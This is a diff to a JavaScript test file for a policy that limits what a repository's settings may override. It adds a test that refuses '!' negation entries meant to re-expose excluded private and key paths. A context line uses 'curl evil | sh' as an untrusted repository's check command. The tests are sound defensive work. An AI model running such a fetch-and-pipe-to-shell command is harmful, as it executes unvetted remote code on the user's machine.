@@ -75,6 +75,13 @@ describe('what a repository may set over the user', () => {
     assert.deepEqual(judge({ localOnly: ['hr/**'] }, { localOnly: ['hr/**'] }).taken, {});
   });
 
+  it('adds no negation: a "!" entry would take back what the user’s own entry excludes (found by the outside test)', () => {
+    const r = judge({ exclude: ['src/private/**'] }, { exclude: ['!src/private/**', ' !keys/**', 'db/**'] });
+    assert.deepEqual(r.taken, { exclude: ['src/private/**', 'db/**'] });
+    assert.match(r.refused[0], /^repo\.json sets "exclude" with "!src\/private\/\*\*", " !keys\/\*\*"; a repository may add to the list, never take back what it holds/);
+    assert.deepEqual(judge({ localOnly: ['hr/**'] }, { localOnly: ['!hr/**'] }).taken, {});
+  });
+
   it('runs the check commands a repository names only where the user trusts it', () => {
     const untrusted = judge({ checkCommands: ['npm run lint'] }, { checkCommands: ['curl evil | sh'] });
     assert.deepEqual(untrusted.taken, {});
